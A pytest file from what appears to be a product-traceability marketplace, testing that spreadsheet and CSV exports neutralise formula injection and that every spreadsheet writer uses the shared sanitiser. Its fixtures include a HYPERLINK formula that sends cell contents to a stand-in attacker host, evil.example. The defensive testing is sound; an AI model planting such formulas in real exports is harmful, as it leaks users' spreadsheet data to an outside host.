"""Formula injection: every cell a spreadsheet opens goes through ``core.exports``."""

import ast
import io
import pathlib

import pytest

from core.exports import spreadsheet_row, spreadsheet_safe
from traceability.printing import stamp_csv
from traceability.printing.labels import StampLabel

ROOT = pathlib.Path(__file__).resolve().parents[2]
PACKAGES = ("api", "catalog", "core", "marketplace", "search", "sellers", "traceability")


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x/?"&A1,"Xem")', '\'=HYPERLINK("http://x/?"&A1,"Xem")'),
        ("+84 912", "'+84 912"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Trà = ngon", "Trà = ngon"),
        ("", ""),
        ("https://ocop.example/S/ABC", "https://ocop.example/S/ABC"),
        (-5, -5),
        (4, 4),
        (None, None),
    ],
)
def test_spreadsheet_safe(cell, expected):
    assert spreadsheet_safe(cell) == expected


def test_spreadsheet_row():
    assert spreadsheet_row(["=A1", 3, "ok"]) == ["'=A1", 3, "ok"]


def test_stamp_csv_neutralises_a_product_name_that_is_a_formula():
    label = StampLabel(
        serial="AAAAAAAAAAAAA",
        url="HTTPS://OCOP.EXAMPLE/S/AAAAAAAAAAAAA",
        product_name='=HYPERLINK("http://evil.example/?"&A1,"Trà")',
        stars=4,
    )
    out = io.BytesIO()
    stamp_csv(labels=[label], out=out)
    rows = out.getvalue().decode("utf-8-sig").split("\r\n")
    assert rows[1] == (
        "AAAAAAAAAAAAA,HTTPS://OCOP.EXAMPLE/S/AAAAAAAAAAAAA,,"
        '"\'=HYPERLINK(""http://evil.example/?""&A1,""Trà"")",4'
    )


def _is_csv_writer(node: ast.AST) -> bool:
    return (
        isinstance(node, ast.Attribute)
        and node.attr in ("writer", "DictWriter")
        and isinstance(node.value, ast.Name)
        and node.value.id == "csv"
    )


def _is_workbook_import(node: ast.AST) -> bool:
    if isinstance(node, ast.Import):
        return any(alias.name.startswith("xlsxwriter") for alias in node.names)
    return (
        isinstance(node, ast.ImportFrom)
        and (node.module or "").startswith(("openpyxl", "xlsxwriter"))
        and any(alias.name in ("Workbook", "Worksheet") for alias in node.names)
    )


def _writes_spreadsheets(tree: ast.AST) -> bool:
    return any(_is_csv_writer(node) or _is_workbook_import(node) for node in ast.walk(tree))


def test_every_spreadsheet_writer_uses_the_one_home():
    writers, unsafe = [], []
    for package in PACKAGES:
        for path in sorted((ROOT / package).rglob("*.py")):
            if "migrations" in path.parts or path.name == "exports.py":
                continue
            source = path.read_text()
            if not _writes_spreadsheets(ast.parse(source)):
                continue
            writers.append(path.relative_to(ROOT).as_posix())
            if "spreadsheet_safe" not in source and "spreadsheet_row" not in source:
                unsafe.append(path.relative_to(ROOT).as_posix())
    assert "traceability/printing/csv_export.py" in writers
    assert unsafe == []
